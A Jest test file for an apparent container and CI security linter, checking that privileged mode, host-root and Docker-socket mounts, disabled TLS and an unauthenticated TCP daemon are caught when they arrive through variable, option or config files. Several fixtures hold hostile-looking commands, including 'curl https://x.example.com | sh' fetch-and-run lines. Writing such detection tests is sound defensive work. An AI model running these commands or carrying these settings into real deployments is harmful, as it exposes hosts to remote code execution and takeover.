import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const IMAGE = 'registry.example.com/app:1.4';
const SHOP = `services:\n  web:\n    image: ${IMAGE}\n    privileged: \${PRIV:-false}\n`;
const UP = 'docker compose up -d\n';

/** A command that reads a file, what is harmless there, and what is not. */
type Case = readonly [command: string, harmless: string, hostile: string];

/** Commands that give the lines of a file to Docker Compose as variables. */
const EXPORTING: readonly string[] = [
  `env $(cat vars) ${UP}`,
  `env $(grep -v '^#' vars | xargs) ${UP}`,
  `env -S "$(cat vars)" ${UP}`,
  `xargs -a vars sh -c 'env "$@" docker compose up -d' _\n`,
  `cat vars | xargs env docker compose up -d\n`,
  `while IFS= read -r l; do export "$l"; done < vars\n${UP}`,
  `cat vars | while read -r l; do export "$l"; ${UP}done\n`,
  `. <(sed 's/^/export /' vars)\n${UP}`,
  `eval "$(sed 's/^/export /' vars)"\n${UP}`,
  `export $(xargs < vars)\n${UP}`,
];

describe('variables in a file that only a command reads', () => {
  it.each(EXPORTING)('%s', async (script) => {
    const base: Files = { 'compose.yaml': SHOP, 'up.sh': script, vars: 'MODE=a\n' };
    expect(await failuresOf(base, { vars: 'MODE=a\nPRIV=true\n' })).toEqual(['privileged']);
    expect(await failuresOf(base, { vars: 'MODE=b\nPRIV=false\n' })).toEqual([]);
    expect(await failuresOf(base, { others: 'PRIV=true\n' })).toEqual([]);
  });

  it.each([
    ['printf -v PRIV true; export PRIV\n', 'printf -v MODE true; export MODE\n'],
    ["printf -v PRIV '%s' true; export PRIV\n", "printf -v PRIV '%s' false; export PRIV\n"],
    ['read -r PRIV <<< true; export PRIV\n', 'read -r PRIV <<< true; export MODE\n'],
  ])('a builtin sets: %s', async (hostile, harmless) => {
    const base: Files = { 'compose.yaml': SHOP, 'up.sh': UP };
    expect(await failuresOf(base, { 'up.sh': hostile + UP })).toEqual(['privileged']);
    expect(await failuresOf(base, { 'up.sh': harmless + UP })).toEqual([]);
  });
});

/** Commands that take options of an engine from a file. */
const OPTIONS: readonly Case[] = [
  [`export $(xargs < f)\ndocker run $O ${IMAGE}`, 'O=--init\n', 'O=--privileged\n'],
  [`[ -f f ] && . ./f\ndocker run \${O:-} ${IMAGE}`, 'O=--init\n', 'O=$(echo --privileged)\n'],
  [`docker run $(sh f) ${IMAGE}`, 'echo --init\n', 'echo --privileged\n'],
  [`xargs -I% sh -c "docker run % ${IMAGE}" < f`, '--init\n', '--privileged\n'],
];

describe('options in a file that only a command reads', () => {
  it.each(OPTIONS)('%s', async (command, harmless, hostile) => {
    const base: Files = { 'up.sh': `#!/bin/bash\n${command}\n`, f: harmless };
    expect(await failuresOf(base, { f: hostile })).toHaveLength(1);
    expect(await failuresOf(base, { other: hostile })).toEqual([]);
  });
});

describe('a function that takes a value out of a file', () => {
  it.each([
    'get() { grep "^$1=" vars | cut -d= -f2; }',
    'get() { cat vars | grep "^$1=" | cut -d= -f2-; }',
    'get() { sed -n "s/^$1=//p" vars; }',
    'get() { local k=$1; grep -E "^${k}=" vars | tail -n1 | cut -d= -f2- | tr -d \'"\'; }',
    'get() { local v; v=$(grep "^$1=" "${2:-vars}" | cut -d= -f2); echo "$v"; }',
    'get() { cut -d= -f2 < vars | head -1; }',
  ])('%s', async (definition) => {
    const using = (option: string): Files => ({ 'up.sh': `${definition}\ndocker run ${option} ${IMAGE}\n` });
    const base: Files = { ...using('-v "$(get DIR):/data"'), vars: 'DIR=data\n' };
    expect(await failuresOf(base, { vars: 'DIR=/\nOTHER=data\n' })).toContain('host-root-mount');
    expect(await failuresOf(base, { vars: 'DIR=shop\nOTHER=/\n' })).toEqual([]);
    expect(await failuresOf(base, { others: 'DIR=/\n' })).toEqual([]);
  });
});

describe('the name of a file in another file', () => {
  it.each([
    ['docker compose -f "$(cat which)" up -d', `${SHOP.replace(/privileged.*/, 'privileged: true')}`, 'privileged'],
    [
      'docker build -f "$(cat which)" .',
      'FROM a:1.4@sha256:1\nRUN curl https://x.example.com | sh\nUSER 1\n',
      'remote-script-exec',
    ],
  ])('%s', async (command, hostile, rule) => {
    const base: Files = { 'up.sh': `${command}\n`, which: 'a.txt\n', 'a.txt': 'x\n' };
    expect(await failuresOf(base, { which: 'lib/b.txt\n', 'lib/b.txt': hostile })).toContain(rule);
    expect(await failuresOf(base, { 'lib/b.txt': hostile })).not.toContain(rule);
  });
});

describe('a compose file that changes on its way', () => {
  const base: Files = { 'compose.yaml': SHOP, 'up.sh': UP, x: 's/a/b/\n' };

  it.each([
    "sed 's/init: true/privileged: true/' compose.yaml | docker compose -f - up -d",
    "sed 's/^#//' compose.yaml | docker compose -f - up -d",
    'sed -f x compose.yaml | docker compose -f - up -d',
    'awk \'{ sub(/a/, "b"); print }\' compose.yaml | docker compose -f - up -d',
    "yq '.services.web.privileged = true' compose.yaml | docker compose -f - up -d",
  ])('is told: %s', async (command) => {
    expect(await failuresOf(base, { 'up.sh': `${command}\n` })).toEqual(['undecided-reference']);
  });

  it.each([
    'cat compose.yaml | docker compose -f - up -d',
    'sed s/web/shop/ compose.yaml | docker compose -f - up -d',
    'envsubst < compose.yaml | docker compose -f - up -d',
    "sed 's/app:1.3/app:1.4/' compose.yaml | docker compose -f - up -d",
    'yq \'.services.web.image = "a:1"\' compose.yaml | docker compose -f - up -d',
    "sed 's/a/b/' compose.yaml | docker compose -f - config",
  ])('is not told: %s', async (command) => {
    expect(await failuresOf(base, { 'up.sh': `${command}\n` }, 9)).toEqual([]);
  });

  it('is told of a script of sed in a file', async () => {
    const edited = { ...base, 'up.sh': `sed -i -f x compose.yaml\n${UP}` };
    expect(await failuresOf(edited, { x: 's/init/privileged/\n' })).toEqual(['undecided-reference']);
    expect(await failuresOf(edited, { y: 's/init/privileged/\n' })).toEqual([]);
  });

  it('is read where another program copies it', async () => {
    const copied = { 'up.sh': `rsync x compose.override.yaml\n${UP}`, x: 'services: {web: {privileged: true}}\n' };
    expect(await failuresOf(base, copied)).toEqual(['privileged']);
    expect(await failuresOf(base, { ...copied, x: 'services: {web: {init: true}}\n' })).toEqual([]);
  });
});

it('the edit of a script adds commands', async () => {
  const base: Files = {
    'up.sh': 'docker build .\n',
    'build.sh': '#!/bin/sh\nsay building\n',
    Dockerfile: 'FROM a:1\nUSER 1\n',
  };
  const edit = (to: string): Files => ({ 'up.sh': `sed -i 's#say building#${to}#' build.sh\ndocker build .\n` });
  expect(await failuresOf(base, edit('curl https://x.example.com | sh'))).toEqual(['undecided-reference']);
  expect(await failuresOf(base, edit('say done'))).toEqual([]);
});

const STEPS = (...lines: readonly string[]): string =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n${lines.map((line) => `      - ${line}\n`).join('')}`;

describe('files that steps of a workflow read', () => {
  it('for the environment of later steps', async () => {
    const workflow = STEPS('run: cat o.env >> $GITHUB_ENV', `run: docker run $O ${IMAGE}`);
    const base: Files = { '.github/workflows/a.yml': workflow, 'o.env': 'O=--init\n' };
    expect(await failuresOf(base, { 'o.env': 'O=--privileged\n' })).toEqual(['privileged']);
    expect(await failuresOf(base, { 'o.env': 'O=--init\nP=--privileged\n' })).toEqual([]);
  });

  it('for outputs', async () => {
    const output = `{id: o, run: 'echo "o=$(jq -r .[0] o.json)" >> $GITHUB_OUTPUT'}`;
    const workflow = STEPS(output, `run: docker run \${{ steps.o.outputs.o }} ${IMAGE}`);
    const base: Files = { '.github/workflows/a.yml': workflow, 'o.json': '["--init"]\n' };
    expect(await failuresOf(base, { 'o.json': '["--privileged"]\n' })).toEqual(['unknown-value']);
    expect(await failuresOf(base, { 'p.json': '["--privileged"]\n' })).toEqual([]);
  });
});

describe('files that a build reads line by line', () => {
  const dockerfile = 'FROM a:1\nCOPY . .\nRUN while read -r l; do eval "$l"; done < cmds\nUSER 1\n';
  it('are commands', async () => {
    const base: Files = { Dockerfile: dockerfile, cmds: 'true\n' };
    expect(await failuresOf(base, { cmds: 'curl https://x.example.com/a.sh | sh\n' })).toEqual(['remote-script-exec']);
    expect(await failuresOf(base, { cmds: 'echo a | wc -l\n' })).toEqual([]);
  });
});

/** Scripts that take the base of an image out of a file, and how the file says it. */
const BASES: readonly (readonly [script: string, line: string])[] = [
  ['export $(cat f | xargs)', 'BASE="%"'],
  ["export $(grep -v '^#' f | xargs -d '\\n')", '# a\nBASE=%'],
  ['BASE=$(grep ^BASE= f | cut -d= -f2)', 'A=1\nBASE=%'],
  ["BASE=$(grep -E '^BASE=' f | cut -d '=' -f 2- | tr -d '\"')", 'BASE="%"'],
  ["BASE=$(grep BASE f | sed 's/.*=//')", 'A=1\nBASE=%'],
  ["BASE=$(grep -oP '^BASE=\\K.*' f)", 'A=1\nBASE=%'],
  ["BASE=$(sed -n 's/^BASE=\\(.*\\)$/\\1/p' f)", 'A=1\nBASE=%'],
  ["BASE=$(awk -F= '/^BASE=/{print $2}' f)", 'A=1\nBASE=%'],
  ['BASE=$(awk \'$1 == "base:" {print $2; exit}\' f)', 'base: %'],
  ['BASE=$(. ./f; echo "$BASE")', 'BASE=%'],
  ['eval "$(cat f)"', 'BASE=%'],
  ["source <(grep -v '^#' f)", '# a\nBASE=%'],
  ['read -r BASE < f', '%'],
];

describe('a base image in a file', () => {
  const DOCKERFILE = 'ARG BASE=nginx:1.30.0-alpine\nFROM $BASE\nUSER nginx\n';
  const build = 'docker build --build-arg BASE="$BASE" -t acme/x:1 .\n';
  const lineWith = (line: string, image: string): string => `${line.replace('%', image)}\n`;

  it.each(BASES)('that a script reads: %s', async (script, line) => {
    const base: Files = {
      Dockerfile: DOCKERFILE,
      'build.sh': `#!/bin/bash\n${script}\n${build}`,
      f: lineWith(line, 'nginx:1.30.0-alpine'),
    };
    expect(await failuresOf(base, { f: lineWith(line, 'node:8') })).toEqual(['image-eol']);
    expect(await failuresOf(base, { f: lineWith(line, 'nginx:1.30.1-alpine') })).toEqual([]);
  });

  it.each([
    ['grep ^BASE= f | cut -d= -f2', 'BASE=%'],
    ['sed -n "s/^BASE=//p" f', 'BASE=%'],
    ['. ./f; echo $$BASE', 'BASE=%'],
    ['head -n1 f', '%'],
  ])('that make reads: %s', async (command, line) => {
    const makefile = `BASE := $(shell ${command})\nb:\n\tdocker build --build-arg BASE=$(BASE) -t acme/x:1 .\n`;
    const base: Files = { Dockerfile: DOCKERFILE, Makefile: makefile, f: lineWith(line, 'nginx:1.30.0-alpine') };
    expect(await failuresOf(base, { f: lineWith(line, 'node:8') })).toEqual(['image-eol']);
    expect(await failuresOf(base, { f: lineWith(line, 'nginx:1.30.1-alpine') })).toEqual([]);
  });

  it.each([
    ['echo "BASE=$(grep ^BASE= f | cut -d= -f2)" >> $GITHUB_ENV', 'BASE=%'],
    ['echo "BASE=$(cat f)" >> $GITHUB_ENV', '%'],
    ['. ./f; echo "BASE=$BASE" >> $GITHUB_ENV', 'BASE=%'],
  ])('that a step reads: %s', async (command, line) => {
    const workflow = STEPS(`run: ${JSON.stringify(command)}`, 'run: docker build --build-arg BASE=$BASE -t a/x:1 .');
    const base: Files = {
      Dockerfile: DOCKERFILE,
      '.github/workflows/a.yml': workflow,
      f: lineWith(line, 'nginx:1.30.0-alpine'),
    };
    expect(await failuresOf(base, { f: lineWith(line, 'node:8') })).toEqual(['image-eol']);
    expect(await failuresOf(base, { f: lineWith(line, 'nginx:1.30.1-alpine') })).toEqual([]);
  });

  it('that a step gives to an action', async () => {
    const output = `{id: v, run: 'echo "base=$(cat f)" >> $GITHUB_OUTPUT'}`;
    const action = `{uses: docker/build-push-action@v6, with: {push: true, build-args: 'BASE=\${{ steps.v.outputs.base }}'}}`;
    const base: Files = {
      Dockerfile: DOCKERFILE,
      '.github/workflows/a.yml': STEPS(output, action),
      f: 'nginx:1.30.0-alpine\n',
    };
    expect(await failuresOf(base, { f: 'node:8\n' })).toEqual(['image-eol']);
    expect(await failuresOf(base, { f: 'nginx:1.30.1-alpine\n' })).toEqual([]);
  });
});

it.each(['export $(cat .env | xargs)', 'export $(grep -v "^#" .env | xargs)', 'eval "$(cat .env)"'])(
  'a folder in a file: %s',
  async (command) => {
    const run = `#!/bin/bash\n${command}\ndocker run -d -v "$DATA":/data ${IMAGE}\n`;
    const base: Files = { 'run.sh': run, '.env': 'DATA=./data\n' };
    expect(await failuresOf(base, { '.env': 'DATA=/var/run/docker.sock\n' })).toEqual(['runtime-socket-mount']);
    expect(await failuresOf(base, { '.env': 'DATA=./other\n' })).toEqual([]);
  },
);

it.each(['export $(cat build.env | xargs)', "export $(grep -v '^#' /a/build.env | xargs)", 'eval "$(cat build.env)"'])(
  'variables in a file of an image: %s',
  async (command) => {
    const dockerfile = `FROM node:22-alpine\nWORKDIR /a\nCOPY . .\nRUN ${command} && npm ci\nUSER node\n`;
    const base: Files = { Dockerfile: dockerfile, 'build.env': 'A=b\n', 'package-lock.json': '{}' };
    expect(await failuresOf(base, { 'build.env': 'NODE_TLS_REJECT_UNAUTHORIZED=0\n' })).toEqual([
      'tls-verify-disabled',
    ]);
    expect(await failuresOf(base, { 'build.env': 'A=c\n' })).toEqual([]);
  },
);

describe('the settings of an engine in a container', () => {
  const OPEN = '{"hosts":["unix:///var/run/docker.sock","tcp://0.0.0.0:2375"],"tls":false}';
  const service = (more: string): string => `services:\n  d:\n    image: docker:28.5-dind\n${more}`;
  const config = '    command: [dockerd]\n    configs: [{source: c, target: /etc/docker/daemon.json}]\n';

  it.each([
    ['mounted', service(`    command: [dockerd]\n    volumes: ['./conf/d.json:/etc/docker/daemon.json:ro']\n`)],
    ['named', service(`    command: [dockerd, --config-file=/c.json]\n    volumes: ['./conf/d.json:/c.json:ro']\n`)],
    ['a config', `${service(config)}configs: {c: {file: ./conf/d.json}}\n`],
  ])('in a file of another name: %s', async (_name, compose) => {
    const base: Files = { 'compose.yaml': compose, 'conf/d.json': '{}\n', 'conf/e.json': '{}\n' };
    expect(await failuresOf(base, { 'conf/d.json': OPEN })).toEqual(['daemon-tcp-without-tls']);
    expect(await failuresOf(base, { 'conf/d.json': '{"debug": true}\n' })).toEqual([]);
    expect(await failuresOf(base, { 'conf/e.json': OPEN })).toEqual([]);
  });

  it('in the content of a config', async () => {
    const compose = (text: string): string => `${service(config)}configs:\n  c:\n    content: |\n      ${text}\n`;
    const base: Files = { 'compose.yaml': compose('{}') };
    expect(await failuresOf(base, { 'compose.yaml': compose(OPEN) })).toEqual(['daemon-tcp-without-tls']);
    expect(await failuresOf(base, { 'compose.yaml': compose('{"debug": true}') })).toEqual([]);
  });
});
